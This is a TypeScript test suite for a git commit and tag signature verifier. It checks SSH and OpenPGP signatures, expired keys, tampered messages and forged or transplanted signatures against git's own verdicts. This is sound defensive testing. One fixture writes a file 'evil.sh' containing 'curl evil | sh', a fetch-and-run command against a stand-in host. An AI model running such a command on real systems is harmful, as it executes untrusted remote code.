import { execFileSync } from 'node:child_process';
import { readFileSync } from 'node:fs';
import { computeCommitId, parseTagObject } from '../../src/provenance/index.js';
import type { SignerTrust } from '../../src/signature/index.js';
import {
  describeKey,
  inspectSignature,
  judgeSignature,
  parseAllowedSigners,
  readPgpKey,
  splitCommitSignature,
  splitTagSignature,
} from '../../src/signature/index.js';
import { GIT_ENV, gitBytes, makeRepo, writeFiles } from '../support/source/provenance-git.js';
import type { SshKeyType, TestSigner } from '../support/source/signing.js';
import {
  allowedSignersFile,
  makePgpSigner,
  makeSshSigner,
  signedCommit,
  signedTag,
  stopPgpSigner,
} from '../support/source/signing.js';

const COMMIT_TIME = Date.parse('2024-01-02T02:04:05Z') / 1000;

function rawCommit(dir: string, rev = 'HEAD'): Uint8Array {
  return new Uint8Array(gitBytes(dir, ['cat-file', 'commit', rev]));
}

function sshTrust(lines: { signer: TestSigner; options?: string }[]): SignerTrust {
  return {
    allowedSigners: parseAllowedSigners(readFileSync(allowedSignersFile(lines), 'utf8')),
    pgpKeys: [],
  };
}

/** git's own verdict, with the same allowed signers (the reference our verifier must agree with). */
function gitVerifies(
  dir: string,
  signersFile: string,
  kind: 'commit' | 'tag',
  rev: string,
): boolean {
  try {
    execFileSync(
      'git',
      ['-c', `gpg.ssh.allowedSignersFile=${signersFile}`, `verify-${kind}`, rev],
      {
        cwd: dir,
        env: GIT_ENV,
        stdio: 'pipe',
      },
    );
    return true;
  } catch {
    return false;
  }
}

describe('SSH-signed commits', () => {
  for (const type of ['ed25519', 'ecdsa-256', 'ecdsa-384', 'rsa'] as SshKeyType[]) {
    it(`when a commit is signed with an ${type} key, it verifies, names the key and agrees with git`, async () => {
      const alice = makeSshSigner(type);
      const dir = makeRepo({ 'a.txt': 'a' });
      writeFiles(dir, { 'b.txt': 'b' });
      signedCommit(dir, alice);
      const signed = splitCommitSignature(rawCommit(dir), 'sha1');
      const record = await inspectSignature(signed);
      expect(record).toMatchObject({
        format: 'ssh',
        keyFingerprint: alice.fingerprint,
        verified: true,
      });
      const file = allowedSignersFile([{ signer: alice }]);
      expect(gitVerifies(dir, file, 'commit', 'HEAD')).toBe(true);
      const verdict = await judgeSignature(signed, sshTrust([{ signer: alice }]), COMMIT_TIME);
      expect(verdict).toMatchObject({ status: 'trusted', signer: 'alice@acme' });
      if (verdict.status === 'trusted')
        expect(describeKey(verdict.record)).toContain(alice.fingerprint);
    });
  }

  it('when the repository is SHA-256, the gpgsig-sha256 header is the signature', async () => {
    const alice = makeSshSigner();
    const dir = makeRepo({ 'a.txt': 'a' }, { objectFormat: 'sha256' });
    signedCommit(dir, alice);
    const raw = rawCommit(dir);
    expect(new TextDecoder().decode(raw)).toContain('gpgsig-sha256 ');
    const verdict = await judgeSignature(
      splitCommitSignature(raw, 'sha256'),
      sshTrust([{ signer: alice }]),
      COMMIT_TIME,
    );
    expect(verdict.status).toBe('trusted');
  });

  it('when the commit is unsigned, the verdict is unsigned', async () => {
    const dir = makeRepo({ 'a.txt': 'a' });
    const signed = splitCommitSignature(rawCommit(dir), 'sha1');
    expect(signed.signature).toBeNull();
    expect(await inspectSignature(signed)).toBeNull();
    expect((await judgeSignature(signed, sshTrust([]), COMMIT_TIME)).status).toBe('unsigned');
  });

  it('when another key signed, the signature verifies but its signer is untrusted', async () => {
    const alice = makeSshSigner();
    const mallory = makeSshSigner('ed25519', 'mallory@evil');
    const dir = makeRepo({});
    signedCommit(dir, mallory);
    const signed = splitCommitSignature(rawCommit(dir), 'sha1');
    expect((await inspectSignature(signed))?.verified).toBe(true);
    expect((await judgeSignature(signed, sshTrust([{ signer: alice }]), COMMIT_TIME)).status).toBe(
      'untrusted',
    );
  });

  it('when the key expired before the commit time (valid-before), the signer is untrusted, as git says', async () => {
    const alice = makeSshSigner();
    const dir = makeRepo({});
    signedCommit(dir, alice);
    const lines = [{ signer: alice, options: 'valid-before="20231231"' }];
    const file = allowedSignersFile(lines);
    expect(gitVerifies(dir, file, 'commit', 'HEAD')).toBe(false);
    const verdict = await judgeSignature(
      splitCommitSignature(rawCommit(dir), 'sha1'),
      sshTrust(lines),
      COMMIT_TIME,
    );
    expect(verdict.status).toBe('untrusted');
    // Valid at the commit's time even if it expired since: still trusted (old bundles keep verifying).
    const later = [{ signer: alice, options: 'valid-after="20230101",valid-before="20240201"' }];
    expect(
      (
        await judgeSignature(
          splitCommitSignature(rawCommit(dir), 'sha1'),
          sshTrust(later),
          COMMIT_TIME,
        )
      ).status,
    ).toBe('trusted');
    const other = [{ signer: alice, options: 'namespaces="file"' }];
    expect(
      (
        await judgeSignature(
          splitCommitSignature(rawCommit(dir), 'sha1'),
          sshTrust(other),
          COMMIT_TIME,
        )
      ).status,
    ).toBe('untrusted');
  });

  it('when the commit is edited after signing, the signature is invalid', async () => {
    const alice = makeSshSigner();
    const dir = makeRepo({});
    signedCommit(dir, alice, 'release 1.0');
    const text = new TextDecoder().decode(rawCommit(dir)).replace('release 1.0', 'release 6.6');
    const verdict = await judgeSignature(
      splitCommitSignature(new TextEncoder().encode(text), 'sha1'),
      sshTrust([{ signer: alice }]),
      COMMIT_TIME,
    );
    expect(verdict.status).toBe('invalid');
  });

  it('when a signature over another commit is moved onto this one, it is invalid', async () => {
    const alice = makeSshSigner();
    const dir = makeRepo({});
    signedCommit(dir, alice, 'signed one');
    const donor = new TextDecoder().decode(rawCommit(dir));
    const header = /\ngpgsig [\s\S]*?-----END SSH SIGNATURE-----\n/.exec(donor)![0];
    writeFiles(dir, { 'evil.sh': 'curl evil | sh' });
    execFileSync('git', ['add', '-A'], { cwd: dir, env: GIT_ENV });
    execFileSync('git', ['commit', '-q', '-m', 'unsigned'], { cwd: dir, env: GIT_ENV });
    const plain = new TextDecoder().decode(rawCommit(dir));
    const forged = plain.replace(/\n(committer [^\n]*)\n/, `\n$1${header}`);
    const verdict = await judgeSignature(
      splitCommitSignature(new TextEncoder().encode(forged), 'sha1'),
      sshTrust([{ signer: alice }]),
      COMMIT_TIME,
    );
    expect(verdict.status).toBe('invalid');
  });

  it('when the signature bytes are garbage, the record says so and nothing throws', async () => {
    const dir = makeRepo({});
    const plain = new TextDecoder().decode(rawCommit(dir));
    const forged = plain.replace(
      /\n(committer [^\n]*)\n/,
      '\n$1\ngpgsig -----BEGIN SSH SIGNATURE-----\n U1NIU0lH\n -----END SSH SIGNATURE-----\n',
    );
    const signed = splitCommitSignature(new TextEncoder().encode(forged), 'sha1');
    expect(await inspectSignature(signed)).toMatchObject({ format: 'ssh', verified: false });
    expect((await judgeSignature(signed, sshTrust([]), COMMIT_TIME)).status).toBe('invalid');
  });

  it('when the signature is X.509 (gitsign), it is recorded as present and unverified', async () => {
    const dir = makeRepo({});
    const plain = new TextDecoder().decode(rawCommit(dir));
    const x509 = plain.replace(
      /\n(committer [^\n]*)\n/,
      '\n$1\ngpgsig -----BEGIN SIGNED MESSAGE-----\n MIIB\n -----END SIGNED MESSAGE-----\n',
    );
    const signed = splitCommitSignature(new TextEncoder().encode(x509), 'sha1');
    expect(await inspectSignature(signed)).toMatchObject({ format: 'x509', verified: null });
    expect((await judgeSignature(signed, sshTrust([]), COMMIT_TIME)).status).toBe('untrusted');
  });
});

describe('SSH-signed tags', () => {
  it('when a tag is signed, its payload verifies and it names the commit', async () => {
    const alice = makeSshSigner();
    const dir = makeRepo({ 'a.txt': 'a' });
    signedTag(dir, alice, 'v1.0.0');
    const raw = new Uint8Array(gitBytes(dir, ['cat-file', 'tag', 'v1.0.0']));
    const tag = parseTagObject(raw);
    expect(tag).toMatchObject({
      tag: 'v1.0.0',
      type: 'commit',
      object: execFileSync('git', ['rev-parse', 'HEAD'], { cwd: dir }).toString().trim(),
    });
    expect(computeCommitId(rawCommit(dir), 'sha1')).toBe(tag.object);
    const file = allowedSignersFile([{ signer: alice }]);
    expect(gitVerifies(dir, file, 'tag', 'v1.0.0')).toBe(true);
    const verdict = await judgeSignature(
      splitTagSignature(raw),
      sshTrust([{ signer: alice }]),
      tag.tagger!.time,
    );
    expect(verdict).toMatchObject({ status: 'trusted', signer: 'alice@acme' });
  });

  it('when a tag message is edited after signing, the signature is invalid', async () => {
    const alice = makeSshSigner();
    const dir = makeRepo({});
    signedTag(dir, alice, 'v2');
    const raw = new TextDecoder()
      .decode(gitBytes(dir, ['cat-file', 'tag', 'v2']))
      .replace('release v2', 'release v3');
    const verdict = await judgeSignature(
      splitTagSignature(new TextEncoder().encode(raw)),
      sshTrust([{ signer: alice }]),
      COMMIT_TIME,
    );
    expect(verdict.status).toBe('invalid');
  });
});

describe('OpenPGP-signed commits and tags', () => {
  const signers: TestSigner[] = [];
  afterAll(() => signers.forEach(stopPgpSigner));

  it('when gpg signs a commit and a tag, they verify with the trusted key and name its user id', async () => {
    const alice = makePgpSigner();
    signers.push(alice);
    if (alice.kind !== 'pgp') throw new Error('pgp');
    const dir = makeRepo({});
    signedCommit(dir, alice);
    signedTag(dir, alice, 'v1');
    const key = await readPgpKey(alice.armoredPublic);
    const trust: SignerTrust = { allowedSigners: [], pgpKeys: [key] };
    const commit = splitCommitSignature(rawCommit(dir), 'sha1');
    expect(await inspectSignature(commit, [key])).toMatchObject({
      format: 'openpgp',
      verified: true,
    });
    expect(await inspectSignature(commit)).toMatchObject({ format: 'openpgp', verified: null });
    expect(await judgeSignature(commit, trust, COMMIT_TIME)).toMatchObject({
      status: 'trusted',
      signer: 'Alice <alice@acme>',
    });
    const tag = splitTagSignature(new Uint8Array(gitBytes(dir, ['cat-file', 'tag', 'v1'])));
    expect((await judgeSignature(tag, trust, COMMIT_TIME)).status).toBe('trusted');
    // Edited after signing.
    const edited = new TextDecoder().decode(rawCommit(dir)).replace('signed', 'sigmed');
    expect(
      (
        await judgeSignature(
          splitCommitSignature(new TextEncoder().encode(edited), 'sha1'),
          trust,
          COMMIT_TIME,
        )
      ).status,
    ).toBe('invalid');
  });

  it('when another OpenPGP key signed (RSA), its signer is untrusted', async () => {
    const alice = makePgpSigner();
    const mallory = makePgpSigner('Mallory <m@evil>', 'rsa2048');
    signers.push(alice, mallory);
    if (alice.kind !== 'pgp') throw new Error('pgp');
    const dir = makeRepo({});
    signedCommit(dir, mallory);
    const trust: SignerTrust = {
      allowedSigners: [],
      pgpKeys: [await readPgpKey(alice.armoredPublic)],
    };
    expect(
      (await judgeSignature(splitCommitSignature(rawCommit(dir), 'sha1'), trust, COMMIT_TIME))
        .status,
    ).toBe('untrusted');
  });
});
